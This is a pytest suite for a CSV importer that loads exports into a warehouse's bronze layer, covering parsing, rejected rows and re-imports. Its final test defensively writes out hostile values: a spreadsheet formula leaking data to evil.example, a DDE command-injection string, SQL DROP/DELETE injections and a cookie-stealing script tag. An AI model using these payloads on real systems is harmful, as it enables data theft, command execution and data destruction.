"""`gtm load`: CSV exports land in bronze verbatim, bad rows are rejected with reasons, re-imports replace."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
import typer
from psycopg import sql
from typer.testing import CliRunner

from gtm.cli.load import load
from gtm.sources import importer
from gtm.warehouse.bronze import ALL_TABLES, TABLES

FIXTURES = Path(__file__).parent / "fixtures" / "import"
runner = CliRunner()


@pytest.fixture
def imports(transformer_conn):
    """Runs imports against the test warehouse and deletes every batch they wrote afterwards."""
    batches: set[str] = set()

    def run(path: Path, **kwargs) -> importer.ImportResult:
        result = importer.import_path(transformer_conn, path, **kwargs)
        batches.add(result.batch_id)
        return result

    run.batches = batches
    yield run
    for batch in batches:
        importer.delete_batch(transformer_conn, batch)


def _rows(conn, table: str, batch: str, columns: str = "*", order: str = "1") -> list[tuple]:
    query = sql.SQL("SELECT {} FROM {} WHERE _batch_id = %s ORDER BY {}").format(
        sql.SQL(columns), TABLES[table].identifier, sql.SQL(order)
    )
    return conn.execute(query, (batch,)).fetchall()


def _count(conn, table: str, batch: str) -> int:
    return len(_rows(conn, table, batch, "1"))


def _rejects(conn, batch: str) -> list[tuple]:
    return conn.execute(
        "SELECT table_name, source_file, line_number, column_name, raw_record, reason "
        "FROM bronze._load_rejects WHERE batch_id = %s ORDER BY table_name, line_number",
        (batch,),
    ).fetchall()


def _loaded(result: importer.ImportResult) -> dict[str, tuple[int, int]]:
    return {f.table: (f.loaded, f.rejected) for f in result.files}


# ---- parsing and planning (no database) -------------------------------------------------------------


def test_every_contract_type_has_a_parser():
    types = {c.pg_type for t in ALL_TABLES for c in t.columns}
    assert types <= {"text", *importer.PARSERS}


@pytest.mark.parametrize(
    ("raw", "pg_type", "expected"),
    [
        ("", "integer", None),
        ("  ", "integer", None),
        ("", "text", None),
        ("  padded ", "text", "  padded "),
        ("$1,234.50", "text", "$1,234.50"),
        (" 42 ", "integer", 42),
        ("-7", "smallint", -7),
        ("9000000000", "bigint", 9_000_000_000),
        ("1520.75", "numeric", Decimal("1520.75")),
        (".5", "numeric", Decimal("0.5")),
        ("Yes", "boolean", True),
        ("F", "boolean", False),
        ("0", "boolean", False),
        ("2026-01-05", "date", date(2026, 1, 5)),
        ("2026-01-05 09:00:00", "timestamptz", datetime(2026, 1, 5, 9, tzinfo=UTC)),
        ("2026-01-05T09:00:00Z", "timestamptz", datetime(2026, 1, 5, 9, tzinfo=UTC)),
        ("2026-01-05T10:00:00+01:00", "timestamptz", datetime(2026, 1, 5, 9, tzinfo=UTC)),
        ("2026-01-05", "timestamptz", datetime(2026, 1, 5, tzinfo=UTC)),
    ],
)
def test_parse_value(raw, pg_type, expected):
    assert importer.parse_value(raw, pg_type) == expected


@pytest.mark.parametrize(
    ("raw", "pg_type"),
    [
        ("abc", "integer"),
        ("1_000", "integer"),
        ("3000000000", "integer"),
        ("40000", "smallint"),
        ("1,234.50", "numeric"),
        ("1e3", "numeric"),
        ("NaN", "numeric"),
        ("maybe", "boolean"),
        ("05/01/2026", "date"),
        ("20260105", "date"),
        ("yesterday", "timestamptz"),
        ("2026-01-05 25:00", "timestamptz"),
    ],
)
def test_parse_value_refuses(raw, pg_type):
    with pytest.raises(ValueError):
        importer.parse_value(raw, pg_type)


def test_format_detection():
    for name, fmt in [
        ("native_good", "native"),
        ("attribution", "attribution"),
        ("o2r_ch12", "o2r"),
    ]:
        assert importer.plan_import(FIXTURES / name).format.name == fmt
    # support_tickets.csv is a native and an o2r name: the header decides.
    o2r_tickets = FIXTURES / "o2r_ch12" / "support_tickets.csv"
    assert importer.plan_import(o2r_tickets).format.name == "o2r"


def test_detection_errors(tmp_path):
    (tmp_path / "leads.csv").write_text("a,b\n1,2\n")
    with pytest.raises(importer.ImportArgumentError, match="cannot tell the format"):
        importer.plan_import(tmp_path)
    (tmp_path / "leads.csv").unlink()
    (tmp_path / "support_tickets.csv").write_text("ticket_id\n1\n")
    with pytest.raises(importer.ImportArgumentError, match=r"ambiguous format.*--format"):
        importer.plan_import(tmp_path)
    with pytest.raises(importer.ImportArgumentError, match="unknown format"):
        importer.plan_import(tmp_path, format="xlsx")
    with pytest.raises(importer.ImportArgumentError, match="no such file"):
        importer.plan_import(tmp_path / "missing")


def test_prefixed_and_upper_case_file_names_are_recognised(tmp_path):
    """A public copy of the attribution exercise ships de_hw_marketing_data.csv etc.: prefixes and case are
    matched to the expected names, and the plan says which file stands for which."""
    renames = {
        "marketing_data.csv": "de_hw_marketing_data.csv",
        "sales_outreach_data.csv": "DE_HW_SALES_OUTREACH_DATA.csv",
        "contact_data.csv": "de-hw-contact_data.csv",
        "opportunity_data.csv": "Opportunity_Data.CSV",
    }
    for source in (FIXTURES / "attribution").iterdir():
        (tmp_path / renames[source.name]).write_bytes(source.read_bytes())
    plan = importer.plan_import(tmp_path)
    assert plan.format.name == "attribution"
    assert {name: path.name for name, path in plan.files.items()} == renames
    assert plan.unknown == [] and plan.absent == []
    # The same content under the expected names is the same batch.
    assert plan.batch_id == importer.plan_import(FIXTURES / "attribution").batch_id
    assert importer.match_file_name("x_marketing_data.csv", ["marketing_data.csv"]) == "marketing_data.csv"
    assert importer.match_file_name("marketing_data_v2.csv", ["marketing_data.csv"]) is None
    assert importer.match_file_name("remarketing_data.csv", ["marketing_data.csv"]) is None
    # Two files standing for one expected name are refused, not silently picked.
    (tmp_path / "other_marketing_data.csv").write_bytes(
        (FIXTURES / "attribution" / "marketing_data.csv").read_bytes()
    )
    with pytest.raises(importer.ImportArgumentError, match=r"two files stand for marketing_data\.csv"):
        importer.plan_import(tmp_path)


def test_batch_id_follows_the_content(tmp_path):
    first = importer.plan_import(FIXTURES / "native_good").batch_id
    assert first == importer.plan_import(FIXTURES / "native_good").batch_id
    assert first.startswith("csv-native-")
    for source in (FIXTURES / "native_good").iterdir():
        (tmp_path / source.name).write_bytes(source.read_bytes())
    assert importer.plan_import(tmp_path).batch_id == first
    with (tmp_path / "spend_ad_daily.csv").open("a") as fh:
        fh.write("BYO-S3,2024-03-03,Email,CMP-3,Nurture,1,1,1\n")
    assert importer.plan_import(tmp_path).batch_id != first
    assert importer.plan_import(tmp_path, batch_id="mine").batch_id == "mine"


def test_docs_match_the_contract():
    text = importer.DOCS_PATH.read_text()
    assert importer.render_docs(text) == text, "docs/IMPORT.md is stale: run `python -m gtm.sources.importer`"


def test_each_format_loads_a_table_once():
    for fmt in importer.FORMATS.values():
        tables = [t.table.name for f in fmt.files for t in f.targets]
        tables += [d.target.table.name for d in fmt.derived]
        assert len(tables) == len(set(tables)), fmt.name


# ---- loading ------------------------------------------------------------------------------------------


def test_native_folder_loads_verbatim(imports, transformer_conn):
    conn = transformer_conn
    result = imports(FIXTURES / "native_good")
    assert result.exit_code == 0
    assert _loaded(result) == {"crm_accounts": (3, 0), "crm_leads": (3, 0), "spend_ad_daily": (2, 0)}
    batch = result.batch_id
    leads = _rows(
        conn,
        "crm_leads",
        batch,
        "lead_id, email, predicted_value, form_submitted_at, first_call_at, call_count, text_count, "
        "is_decision_maker_connected, touch_channels, created_at, _source_system, _source_file",
    )
    assert leads[0] == (
        "BYO-L1",
        " Ann@Example.COM ",
        "$1,234.50",
        "0024-03-01 10:00",
        "03/01/2024 10:05",
        3,
        0,
        True,
        "call,email",
        datetime(2024, 3, 1, 10, tzinfo=UTC),
        "csv:native",
        "crm_leads.csv",
    )
    assert leads[1][2] == "1.234,50 €"
    assert leads[2][1:3] == (None, "900")  # empty -> NULL
    assert leads[2][6] is None and leads[2][9] == datetime(2024, 5, 5, 19, tzinfo=UTC)
    accounts = _rows(conn, "crm_accounts", batch, "account_id, account_name, employee_count, updated_at")
    assert accounts == [
        ("BYO-A1", "Acme Corp", 5200, datetime(2025, 6, 1, 10, 30, tzinfo=UTC)),
        ("BYO-A2", "  Beta GmbH ", 45, datetime(2025, 2, 1, 8, tzinfo=UTC)),
        ("BYO-A3", "Crest, Inc.", None, datetime(2025, 3, 15, 10, tzinfo=UTC)),
    ]
    spend = _rows(conn, "spend_ad_daily", batch, "spend_date, impressions, spend_amount")
    assert spend == [
        (date(2024, 3, 1), 120000, Decimal("1520.75")),
        (date(2024, 3, 2), 9_000_000_000, Decimal("-3.5")),
    ]
    ledger = conn.execute(
        "SELECT table_name, row_count, source_system FROM bronze._load_batches "
        "WHERE batch_id = %s ORDER BY 1",
        (batch,),
    ).fetchall()
    assert ledger == [
        ("crm_accounts", 3, "csv:native"),
        ("crm_leads", 3, "csv:native"),
        ("spend_ad_daily", 2, "csv:native"),
    ]
    assert _rejects(conn, batch) == []


def test_missing_column_refuses_the_file(imports, transformer_conn):
    result = imports(FIXTURES / "native_missing_column")
    assert result.exit_code == 2
    contacts = next(f for f in result.files if f.table == "crm_contacts")
    assert contacts.loaded == 0
    assert "crm_contacts.csv" in contacts.error and "missing required column(s): email" in contacts.error
    assert _count(transformer_conn, "crm_contacts", result.batch_id) == 0
    assert _count(transformer_conn, "crm_accounts", result.batch_id) == 2  # the good file still loads


def test_bad_rows_are_rejected_with_reasons(imports, transformer_conn):
    conn = transformer_conn
    result = imports(FIXTURES / "native_bad_rows")
    assert result.exit_code == 1
    assert _loaded(result) == {"crm_leads": (5, 3)}
    ids = [r[0] for r in _rows(conn, "crm_leads", result.batch_id, "lead_id")]
    assert ids == ["BYO-B1", "BYO-B2", "BYO-B4", "BYO-B6", "BYO-B8"]
    assert _rows(conn, "crm_leads", result.batch_id, "touch_channels", "lead_id")[1] == ("call,\nemail",)
    rejects = _rejects(conn, result.batch_id)
    assert [(r[2], r[3]) for r in rejects] == [(5, "call_count"), (7, "created_at"), (9, "lead_id")]
    assert {r[:2] for r in rejects} == {("crm_leads", "crm_leads.csv")}
    assert [r[5] for r in rejects] == [
        "crm_leads.csv line 5, column call_count: cannot parse 'abc' as integer",
        "crm_leads.csv line 7, column created_at: cannot parse 'yesterday' as timestamptz",
        "crm_leads.csv line 9, column lead_id: key column is empty",
    ]
    assert rejects[0][4] == "BYO-B3,,,,,,new,,,,,,abc,,,,,,,2024-06-03 10:00:00,2024-06-03 10:00:00"


def test_reimport_is_idempotent(imports, transformer_conn):
    conn = transformer_conn
    first = imports(FIXTURES / "native_bad_rows")
    second = imports(FIXTURES / "native_bad_rows")
    assert second.batch_id == first.batch_id
    assert _loaded(second) == _loaded(first) == {"crm_leads": (5, 3)}
    assert _count(conn, "crm_leads", first.batch_id) == 5
    assert len(_rejects(conn, first.batch_id)) == 3
    ledger = conn.execute(
        "SELECT count(*) FROM bronze._load_batches WHERE batch_id = %s", (first.batch_id,)
    ).fetchone()
    assert ledger == (1,)


def test_structurally_broken_files_are_refused(imports, transformer_conn, tmp_path):
    header = ",".join(TABLES["crm_accounts"].column_names)
    good = "BYO-X1,Acme,,,,,,,,,,\n"
    cases = {
        "nul": (header + "\n" + good + "BYO-X2,A\0B,,,,,,,,,,\n").encode(),
        "latin1": (header + "\n" + good + "BYO-X2,Café,,,,,,,,,,\n").encode("latin-1"),
        "semicolon": (header.replace(",", ";") + "\nBYO-X1;Acme;;;;;;;;;;\n").encode(),
        "extra": (header + ",notes\n" + good.rstrip("\n") + ",hi\n").encode(),
        "unclosed": (header + "\n" + good + 'BYO-X2,"Acme,,,,,,,,,,\n').encode(),
        "empty": b"",
    }
    expected = {
        "nul": "line 3: contains a NUL byte",
        "latin1": "line 3: not valid UTF-8",
        "semicolon": "semicolon-separated",
        "extra": "unknown column(s): notes",
        "unclosed": "line 3: a quoted field is never closed",
        "empty": "the file is empty",
    }
    for case, content in cases.items():
        folder = tmp_path / case
        folder.mkdir()
        (folder / "crm_accounts.csv").write_bytes(content)
        result = imports(folder, batch_id=f"test-importer-broken-{case}")
        assert result.exit_code == 2, case
        [file_result] = result.files
        assert file_result.loaded == 0 and expected[case] in file_result.error, (case, file_result.error)
        assert file_result.error.startswith("crm_accounts.csv"), file_result.error
        assert _count(transformer_conn, "crm_accounts", result.batch_id) == 0, case
    relaxed = imports(tmp_path / "extra", batch_id="test-importer-extra-ok", ignore_extra_columns=True)
    assert _loaded(relaxed) == {"crm_accounts": (1, 0)}


def test_unknown_file_name_is_refused(imports, transformer_conn, tmp_path):
    source = FIXTURES / "native_good" / "crm_accounts.csv"
    (tmp_path / "crm_accounts.csv").write_bytes(source.read_bytes())
    (tmp_path / "crm_lead.csv").write_text("lead_id\nX\n")
    result = imports(tmp_path, batch_id="test-importer-unknown-name")
    assert result.exit_code == 2
    unknown = next(f for f in result.files if f.file == "crm_lead.csv")
    assert "not a native file name" in unknown.error and "crm_leads.csv" in unknown.error
    assert _count(transformer_conn, "crm_accounts", result.batch_id) == 3


def test_attribution_format(imports, transformer_conn):
    conn = transformer_conn
    result = imports(FIXTURES / "attribution")
    assert result.format == "attribution" and result.exit_code == 0
    assert _loaded(result) == {
        "marketing_touches": (5, 0),
        "sales_touches": (3, 0),
        "crm_contacts": (6, 0),
        "crm_opportunities": (3, 0),
        "crm_accounts": (3, 0),
    }
    batch = result.batch_id
    opportunities = _rows(
        conn,
        "crm_opportunities",
        batch,
        "opportunity_id, amount, opportunity_type, created_at, updated_at, stage, sales_segment",
    )
    assert [o[1] for o in opportunities] == ["125000.50", "$80,000", "42000"]
    assert {o[2] for o in opportunities} == {"New Business"}
    assert opportunities[0][3] == opportunities[0][4] == datetime(2024, 3, 1, tzinfo=UTC)
    # No stage in the export: every opportunity is open pipeline at the first stage; the segment stays on it.
    assert {o[5] for o in opportunities} == {"Qualification"}
    assert [o[6] for o in opportunities] == ["Enterprise", "Commercial", "Mid Market"]
    accounts = _rows(conn, "crm_accounts", batch, "account_id, segment, _source_file")
    assert accounts == [
        ("ATT-A1", "Mid Market", "contact_data.csv+opportunity_data.csv"),
        ("ATT-A2", "Commercial", "contact_data.csv+opportunity_data.csv"),
        ("ATT-A3", None, "contact_data.csv+opportunity_data.csv"),
    ]
    touches = _rows(conn, "sales_touches", batch, "touch_id, contact_id, channel, touched_at, _source_system")
    assert touches[0] == (
        "ATT-S1",
        "ATT-C2",
        "Outbound",
        datetime(2024, 2, 20, 10, tzinfo=UTC),
        "csv:attribution",
    )


def test_o2r_chapter_12_example(imports, transformer_conn):
    conn = transformer_conn
    result = imports(FIXTURES / "o2r_ch12")
    assert result.format == "o2r" and result.exit_code == 0 and result.absent == []
    assert _loaded(result) == {
        "crm_accounts": (10, 0),
        "billing_subscriptions": (10, 0),
        "billing_invoices": (35, 0),
        "product_api_events": (35, 0),
        "product_incidents": (3, 0),
        "support_tickets": (7, 0),
    }
    batch = result.batch_id
    one = conn.execute

    def scalar(query: str):
        return one(query, (batch,)).fetchone()

    assert scalar(
        "SELECT sum(tokens), count(*) FILTER (WHERE status_code = 500) FROM bronze.product_api_events "
        "WHERE _batch_id = %s"
    ) == (166900, 2)
    assert scalar(
        "SELECT downtime_minutes, severity, scope FROM bronze.product_incidents "
        "WHERE _batch_id = %s AND incident_id = '3'"
    ) == (210, "SEV1", "global")
    assert scalar(
        "SELECT account_type, segment, created_at FROM bronze.crm_accounts "
        "WHERE _batch_id = %s AND account_id = '9'"
    ) == ("Former Customer", "Enterprise", datetime(2025, 11, 1, tzinfo=UTC))
    assert scalar(
        "SELECT status, plan, start_date, change_type FROM bronze.billing_subscriptions "
        "WHERE _batch_id = %s AND account_id = '9'"
    ) == ("cancelled", "Enterprise", date(2025, 11, 1), "new")
    assert scalar(
        "SELECT sum(amount::numeric), count(DISTINCT invoice_id) FROM bronze.billing_invoices "
        "WHERE _batch_id = %s"
    ) == (Decimal("209450.00"), 35)
    assert scalar(
        "SELECT invoice_id, amount, period_start, period_end, status FROM bronze.billing_invoices "
        "WHERE _batch_id = %s AND account_id = '7' ORDER BY period_start LIMIT 1"
    ) == ("inv-7-Product A-2026-01-12", "750.00", date(2026, 1, 12), date(2026, 1, 19), "paid")
    assert scalar(
        "SELECT resolved_at, updated_at FROM bronze.support_tickets "
        "WHERE _batch_id = %s AND ticket_id = '207'"
    ) == (datetime(2026, 1, 28, 14, tzinfo=UTC), datetime(2026, 1, 28, 14, tzinfo=UTC))


# ---- the command --------------------------------------------------------------------------------------


def _cli_app() -> typer.Typer:
    app = typer.Typer()
    app.callback()(lambda: None)  # keep `load` a subcommand, as in `gtm load`
    app.command("load")(load)
    return app


def test_cli_exit_codes(warehouse, transformer_conn):
    app = _cli_app()
    good = FIXTURES / "native_good"
    batches = [importer.plan_import(good).batch_id, "test-importer-cli-bad"]
    try:
        ok = runner.invoke(app, ["load", str(good)])
        assert ok.exit_code == 0, ok.output
        assert "crm_leads" in ok.output and "loaded 8 rows, rejected 0 rows" in ok.output
        bad = runner.invoke(app, ["load", str(FIXTURES / "native_bad_rows"), "--batch-id", batches[1]])
        assert bad.exit_code == 1, bad.output
        assert "loaded 5 rows, rejected 3 rows" in bad.output and "_load_rejects" in bad.output
        assert "rejected: crm_leads.csv line 5" in bad.output
        missing = runner.invoke(app, ["load", str(FIXTURES / "does-not-exist")])
        assert missing.exit_code == 2
        dry = runner.invoke(app, ["load", str(FIXTURES / "o2r_ch12"), "--dry-run"])
        assert dry.exit_code == 0 and "would load 100 rows" in dry.output, dry.output
    finally:
        for batch in batches:
            importer.delete_batch(transformer_conn, batch)


def test_hostile_files_are_refused_or_stored_verbatim(imports, transformer_conn, tmp_path):
    """Binary garbage is refused with a clear error; a 10 MB line and spreadsheet-formula or SQL-looking
    values are data: stored verbatim (bound through COPY, never interpolated into SQL), nothing executed."""
    import csv
    import os

    columns = TABLES["crm_accounts"].column_names
    garbage = tmp_path / "garbage"
    garbage.mkdir()
    (garbage / "crm_accounts.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(4096))
    refused = imports(garbage, batch_id="test-importer-garbage")
    assert refused.exit_code == 2 and refused.files[0].loaded == 0
    assert "binary data is not a CSV export" in refused.files[0].error
    assert _count(transformer_conn, "crm_accounts", refused.batch_id) == 0

    hostile = {
        "BYO-H1": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        "BYO-H2": "'); DROP TABLE bronze.crm_accounts; --",
        "BYO-H3": "+cmd|' /C calc'!A0",
        "BYO-H4": 'Robert"); DELETE FROM bronze._load_batches; --',
        "BYO-H5": "<script>alert(document.cookie)</script>",
        "BYO-H6": "x" * (10 * 1024 * 1024),  # one 10 MB line
    }
    values = tmp_path / "values"
    values.mkdir()
    with (values / "crm_accounts.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(columns)
        for key, name in hostile.items():
            writer.writerow([key, name] + [""] * (len(columns) - 2))
    loaded = imports(values, batch_id="test-importer-hostile")
    assert _loaded(loaded) == {"crm_accounts": (len(hostile), 0)}
    stored = dict(_rows(transformer_conn, "crm_accounts", loaded.batch_id, "account_id, account_name"))
    assert stored == hostile
    # Nothing ran: the tables the strings name are intact.
    assert transformer_conn.execute("select count(*) from bronze._load_batches").fetchone()[0] > 0
    assert transformer_conn.execute("select to_regclass('bronze.crm_accounts')").fetchone()[0] is not None
